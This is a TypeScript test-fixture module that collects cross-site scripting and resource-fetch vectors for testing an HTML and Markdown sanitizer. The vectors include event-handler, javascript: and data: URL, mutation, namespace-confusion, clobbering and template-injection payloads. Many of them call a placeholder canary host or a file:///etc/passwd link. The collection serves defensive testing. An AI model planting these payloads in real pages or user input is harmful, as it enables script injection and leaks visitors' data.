import naughty from 'big-list-of-naughty-strings';
import fixtures from 'dompurify-fixtures/test/fixtures/expect.js';

/** A text that a careless page would run, or that would ask for what nobody wants fetched. */
export interface Vector {
  /** What it tries: vectors of one family are stopped for one reason. */
  readonly family: string;
  readonly text: string;
}

/** Is it meant to be read as markup or as an address? The list has many other strings that are hard for programs. */
const IS_VECTOR = /<[\w!?/%\\]|javascript:|script>|\bon\w+=|(?:alert|prompt)\(/i;

/** The published lists: the Big List of Naughty Strings (MIT), and what DOMPurify 0.8.1 was tested with (MPL-2.0 or Apache-2.0). */
export const PUBLISHED: readonly Vector[] = [
  ...naughty.filter((text) => IS_VECTOR.test(text)).map((text) => ({ family: 'Big List of Naughty Strings', text })),
  ...fixtures.map(({ payload }) => ({ family: 'DOMPurify', text: payload })),
];

/** What a vector of ours calls where it runs; the page that is watched has it. */
const RUN = 'canary(1)';
/** An address that nobody may ask for, and one of the page's own that nobody may, either. */
const AWAY = 'https://canary.example';
const HERE = '/canary';

/** Our own, by family. */
const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'script elements': [
    `<script>${RUN}</script>`,
    `<script src=${AWAY}/a.js></script>`,
    `<script type=module>import '${AWAY}/a.js'</script>`,
    `<ScRiPt\u000c>${RUN}</sCrIpT >`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${HERE}/rules"]}]}</script>`,
    `<script type=importmap>{"imports":{"lit":"${AWAY}/lit.js"}}</script>`,
  ],
  'handlers of loading': [`<img src=x onerror=${RUN}>`, `<body onload=${RUN}>`, `<link rel=stylesheet href=x onerror=${RUN}>`],
  'handlers of media': [
    `<video src=x onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}></audio>`,
    `<video><source src=x onerror=${RUN}></video>`,
    `<video oncanplay=${RUN} src=/film/what-the-wind-kept.mp4 autoplay muted></video>`,
    `<track src=x onerror=${RUN}>`,
  ],
  'handlers of the focus': [
    `<input autofocus onfocus=${RUN}>`,
    `<a tabindex=0 id=x onfocusin=${RUN} autofocus>words</a>`,
    `<p contenteditable autofocus onfocus=${RUN}>words</p>`,
  ],
  'handlers of motion': [
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${RUN}>words</p>`,
    `<p style="transition:color 1s" ontransitionend=${RUN} ontransitionrun=${RUN}>words</p>`,
    `<marquee onstart=${RUN}>words</marquee>`,
  ],
  'handlers of opening': [
    `<details open ontoggle=${RUN}>words</details>`,
    `<p popover id=p onbeforetoggle=${RUN}>words</p><button popovertarget=p>words</button>`,
    `<dialog open onclose=${RUN}>words</dialog>`,
    `<button commandfor=p command=show-popover onclick=${RUN}>words</button>`,
    `<p hidden=until-found onbeforematch=${RUN}>words</p>`,
  ],
  'handlers of the pointer': [
    `<p onmouseover=${RUN}>words</p>`,
    `<b onpointerrawupdate=${RUN} onclick=${RUN}>words</b>`,
    `<p onwheel=${RUN} onscrollend=${RUN}>words</p>`,
  ],
  'handlers without a space': [
    `<img/src=x/onerror=${RUN}>`,
    `<img src="x"onerror="${RUN}">`,
    `<img\u000csrc=x\u000conerror=${RUN}>`,
    `<p x='"onmouseover=${RUN} '>words</p>`,
  ],
  'encoded markup': ['&lt;img src=x onerror=canary(1)&gt;', '&#60;script&#62;canary(1)&#60;/script&#62;', '%3Cscript%3Ecanary(1)%3C/script%3E', '\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e', '&amp;lt;script&amp;gt;canary(1)&amp;lt;/script&amp;gt;'], // prettier-ignore
  'null bytes': [`<scr\0ipt>${RUN}</scr\0ipt>`, `<img src=x on\0error=${RUN}>`, `<a href="java\0script:${RUN}">words</a>`],
  'broken tags': [
    `<<script>${RUN}//<</script>`,
    `<img src=x onerror=${RUN}//`,
    `</p/onmouseover=${RUN}>words`,
    `<p <img src=x onerror=${RUN}>`,
    `<img """><script>${RUN}</script>">`,
  ],
  'javascript: addresses': [
    `<a href="javascript:${RUN}">words</a>`,
    `<a href="JaVaScRiPt:${RUN}">words</a>`,
    `<area href="javascript:${RUN}">`,
    `<q cite="javascript:${RUN}">words</q>`,
  ],
  'javascript: with blanks and controls': [
    `<a href=" javascript:${RUN}">words</a>`,
    `<a href="java\tscript:${RUN}">words</a>`,
    `<a href="java\nscript:${RUN}">words</a>`,
    `<a href="\u0001javascript:${RUN}">words</a>`,
    `<a href="javascript\u2028:${RUN}">words</a>`,
    `<a href="\ufeffjavascript:${RUN}">words</a>`,
  ],
  'javascript: with references': [
    `<a href="&#106;avascript:${RUN}">words</a>`,
    `<a href="javascript&colon;${RUN}">words</a>`,
    `<a href="java&Tab;script&NewLine;:${RUN}">words</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN}">words</a>`,
    `<a href="javascript:%63anary(1)">words</a>`,
  ],
  'javascript: in Markdown': [
    `[words](javascript:${RUN})`,
    `[words](<java\tscript:${RUN}>)`,
    `[words][x]\n\n[x]: javascript:${RUN}`,
    `<javascript:${RUN}>`,
    `![words](javascript:${RUN})`,
    `[words](javascript&colon;${RUN} "a title")`,
    `[words](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)`,
    `![words](x" onerror="${RUN})`,
    `[words](x 'onmouseover=${RUN}')`,
    `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  ],
  'data: addresses': [
    `<a href="data:text/html,<script>${RUN}</script>">words</a>`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
    `<a href="data:,words" download=x.exe>words</a>`,
  ],
  'other schemes': [`<a href="vbscript:${RUN}">words</a>`, '<a href="livescript:x">words</a>', '<a href="file:///etc/passwd">words</a>', '<a href="blob:https://canary.example/1">words</a>', '<a href="intent://canary#Intent;end">words</a>', '<a href="view-source:x">words</a>'], // prettier-ignore
  'disguised addresses': [
    '<a href="https:\\\\canary.example">words</a>',
    '<a href="https://www.example.org@canary.example/">words</a>',
    '<a href="https://example.org\u202egnp.elpmaxe">words</a>',
    '<a href="https://exam\u200bple.org/">words</a>',
    '<a href="//canary.example/x">words</a>',
    '<a href="https://ex\uff0eample.org/">words</a>',
  ],
  'pictures elsewhere': [
    `<img src=${AWAY}/a.png>`,
    '<img src=//canary.example/a.png>',
    '<img src="\\\\canary.example/a.png">',
    `![words](${AWAY}/a.png)`,
    '<img src="/\t/canary.example/a.png">',
    '<img src="https:canary.example/a.png">',
  ],
  'pictures by other attributes': [
    `<img srcset="${AWAY}/a.png 1x">`,
    `<img lowsrc=${AWAY}/a.png dynsrc=${AWAY}/b.png>`,
    `<picture><source srcset="${AWAY}/a.png"><img alt=words></picture>`,
    `<table background=${AWAY}/a.png><tr><td background=${AWAY}/b.png>words</table>`,
    `<input type=image src=${AWAY}/a.png>`,
    `<video poster=${AWAY}/a.png></video>`,
  ],
  'addresses in styles': [
    `<p style="background:url(${AWAY}/a.png)">words</p>`,
    `<p style="background:\\75rl('${AWAY}/a.png')">words</p>`,
    `<style>*{background:url(${AWAY}/a.png)}</style>`,
    `<p style="cursor:image-set('${AWAY}/a.png' 1x), auto">words</p>`,
    `<style>@font-face{font-family:x;src:url(${AWAY}/x.woff)}*{font-family:x}</style>`,
  ],
  'style sheets brought in': [
    `<style>@import '${AWAY}/a.css';</style>`,
    `<link rel=stylesheet href=${AWAY}/a.css>`,
    `<style>@import url(${AWAY}/a.css) layer(x);</style>`,
    `<?xml-stylesheet href="${AWAY}/a.css"?>`,
  ],
  'code in styles': [
    `<p style="width:expression(${RUN})">words</p>`,
    `<p style="-moz-binding:url(${AWAY}/a.xml#x);behavior:url(${AWAY}/a.htc)">words</p>`,
    '<style>body{display:none!important}</style>',
    '<p style="position:fixed;inset:0;z-index:2147483647">words</p>',
  ],
  'breaking out of styles': [
    `<style></style><img src=x onerror=${RUN}></style>`,
    `<p style="x:'</style><img src=x onerror=${RUN}>'">words</p>`,
    `<style><!--</style><script>${RUN}</script>--></style>`,
  ],
  'breaking out of attributes': [
    `"><script>${RUN}</script>`,
    `'><img src=x onerror=${RUN}>`,
    '" onfocus="canary(1)" autofocus x="',
    '` onfocus=canary(1) autofocus x=`',
    "' style='background:url(https://canary.example/a.png)' x='",
  ],
  frames: [
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe src=${AWAY}></iframe>`,
    `<frameset><frame src="javascript:${RUN}"></frameset>`,
    '<fencedframe></fencedframe><portal src=https://canary.example>',
  ],
  'frames with their text': [
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  ],
  'plug-ins': [
    `<object data=${AWAY}/a.swf></object>`,
    `<embed src="javascript:${RUN}">`,
    `<applet code=x archive=${AWAY}/a.jar></applet>`,
    `<object><param name=movie value=${AWAY}/a.swf></object>`,
  ],
  'what a page says of itself': [
    `<meta http-equiv=refresh content="0;url=${HERE}/refresh">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    '<meta name=referrer content=unsafe-url>',
    '<meta http-equiv=set-cookie content="canary=1">',
  ],
  'another base': [
    '<base href=https://canary.example/>',
    '<base target=_top><a href=x>words</a>',
    '<base href="javascript:/a/-canary(1)//">',
  ],
  'fetching ahead': [
    `<link rel=prefetch href=${AWAY}/a>`,
    `<link rel=preload as=image href=${AWAY}/a.png>`,
    '<link rel=dns-prefetch href=//canary.example>',
    '<link rel=preconnect href=https://canary.example>',
    `<link rel=modulepreload href=${AWAY}/a.js>`,
    `<link rel=icon href=${AWAY}/a.ico>`,
    `<link rel=manifest href=${AWAY}/a.json>`,
  ],
  'telling others': [
    `<a href=https://example.org ping=${AWAY}/ping>words</a>`,
    `<a href=https://example.org attributionsrc=${AWAY}>words</a>`,
    `<img attributionsrc=${AWAY} alt=words>`,
    `<html manifest=${AWAY}/a.appcache>`,
  ],
  'the opener': [
    '<a href=https://example.org target=_blank rel=opener>words</a>',
    '<a href=https://example.org target=_top>words</a>',
    '<a href=https://example.org target=canary rel="opener prefetch">words</a>',
  ],
  forms: [
    `<form action="javascript:${RUN}"><input type=submit></form>`,
    `<form action=${AWAY}><input name=password><button>words</button></form>`,
    `<button formaction="javascript:${RUN}">words</button>`,
    `<form id=f action=${AWAY}></form><input type=submit form=f formmethod=post>`,
    `<isindex action="javascript:${RUN}" type=image>`,
    '<select onchange=canary(1) autofocus><option>words</select>',
  ],
  SVG: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>words</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
    `<svg><image href=${AWAY}/a.png /></svg>`,
    `<svg><feImage href=${AWAY}/a.png /></svg>`,
  ],
  'SVG in motion': [
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>words</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${RUN} /></svg>`,
    `<svg><discard onbegin=${RUN}>`,
  ],
  MathML: [
    `<math href="javascript:${RUN}">words</math>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">words</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<math><mi xlink:href="data:x,<script>${RUN}</script>">words</mi></math>`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
    `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
    `<plaintext><p></plaintext><img src=x onerror=${RUN}>`,
    `<form><div></form><form><img src=x onerror=${RUN}>`,
    `<p title="\`\`onmouseover=${RUN}">words</p>`,
  ],
  'confusion of namespaces': [
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<svg><title><style><img src="</style><img src=x onerror=${RUN}>">`,
    `<math><mi><style><img src=x onerror=${RUN}></style></mi></math>`,
    `<svg><desc><noscript><img title="</noscript><img src=x onerror=${RUN}>">`,
    `<table><caption><svg><style><img src=x onerror=${RUN}></style></svg></caption></table>`,
  ],
  'templates and shadow roots': [
    `<template><img src=x onerror=${RUN}></template>`,
    `<p><template shadowrootmode=open><script>${RUN}</script><slot onslotchange=${RUN}></slot></template>words</p>`,
    `<template><template><script>${RUN}</script></template></template>`,
  ],
  'slots, parts, other elements': [
    `<p slot=overlay part=dismiss exportparts=card>words</p>`,
    `<slot onslotchange=${RUN}>words</slot>`,
    '<film-player src=https://canary.example/film.mp4 autoplay></film-player>',
    '<film-annotations src=/canary/notes.json></film-annotations>',
    '<film-article src=/canary/essay.md></film-article>',
    `<p is=film-player>words</p>`,
    `<button is=x-button onclick=${RUN}>words</button>`,
  ],
  'clobbered names': [
    '<img name=createElement><img id=body name=body>',
    '<form id=document name=cookie><input name=attributes><input name=parentNode>',
    '<a id=canary></a><a id=canary name=x href="cid:canary(1)">words</a>',
    '<iframe name=customElements srcdoc="<a id=get></a>"></iframe>',
    '<p id=__proto__ class=card>words</p>',
    '# words {#createElement}\n\n[to them](#createElement)',
  ],
  comments: [
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--!><img src=x onerror=${RUN}>--!><img src=x onerror=${RUN}>`,
    `<!-- --!><img src=x onerror=${RUN}> -->`,
    `<comment><img src="</comment><img src=x onerror=${RUN}>">`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  ],
  'CDATA and processing instructions': [
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
    `<?x <img src=x onerror=${RUN}>?>`,
    `<?php echo 1 ?><script>${RUN}</script>`,
    `<%<img src=x onerror=${RUN}>%>`,
  ],
  'document types and entities': [
    `<!DOCTYPE x [<!ENTITY x "<script>${RUN}</script>">]>&x;`,
    '<!DOCTYPE x SYSTEM "https://canary.example/x.dtd"><x/>',
    `<x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script></x>`,
  ],
  'other encodings': ['+ADw-script+AD4-canary(1)+ADw-/script+AD4-', '<meta charset=utf-7>+ADw-img src=x onerror=canary(1)+AD4-', '\u00bcscript\u00becanary(1)\u00bc/script\u00be', '\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e', '<meta charset=iso-2022-jp>\u001b(J<img src=x onerror=canary(1)>'], // prettier-ignore
  'marks of subtitles': [
    `<c.onerror.x><v "><img src=x onerror=${RUN}>>words</v></c>`,
    `<lang "onfocus=${RUN}>words</lang>`,
    `<c.url(https://canary.example/a.png)>words</c>`,
    `<font color="red;background:url(${AWAY}/a.png)" face=x onclick=${RUN}>words</font>`,
    `{\\an8}{\\fn<img src=x onerror=${RUN}>}words`,
    `<v Anne onclick=${RUN}>words`,
    `<ruby>words<rt onclick=${RUN}>x</rt></ruby>`,
  ],
  'marks of templates': [
    '{{constructor.constructor("canary(1)")()}}',
    '${canary(1)}',
    '<%= canary(1) %>',
    '#{canary(1)}',
    '<p v-html="canary(1)" ng-init="canary(1)" x-init="canary(1)" hx-get=/canary/hx hx-trigger=load>words</p>',
    '{{=canary(1)}}',
  ],
  'directions and joiners': [
    `<img src=x on\u200berror=${RUN}>`,
    `\u202e<script>${RUN}</script>`,
    `<scr\u00adipt>${RUN}</scr\u00adipt>`,
    `<p dir=rtl lang='"><script>${RUN}</script>'>words</p>`,
    `<bdo dir='ltr" onclick="${RUN}'>words</bdo>`,
  ],
  'names of inherited fields': [
    '__proto__',
    'constructor',
    '<p __proto__=x constructor=y toString=z>words</p>',
    '<__proto__>words</__proto__>',
    '<constructor onclick=canary(1)>words</constructor>',
  ],
};

export const OWN: readonly Vector[] = Object.entries(FAMILIES).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));

export const VECTORS: readonly Vector[] = [...OWN, ...PUBLISHED];

/** The values of attributes that hold an address, and what begins with a scheme: addresses by themselves. */
export const ADDRESSES: readonly string[] = [
  ...new Set(
    VECTORS.flatMap(({ text }) => [
      ...text.matchAll(/(?:href|src|cite|action|data|poster)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+))|^((?:java|vb|live)script:.*)$/gims),
    ])
      .map(([, double, single, bare, alone]) => double ?? single ?? bare ?? alone ?? '')
      .filter(Boolean),
  ),
];
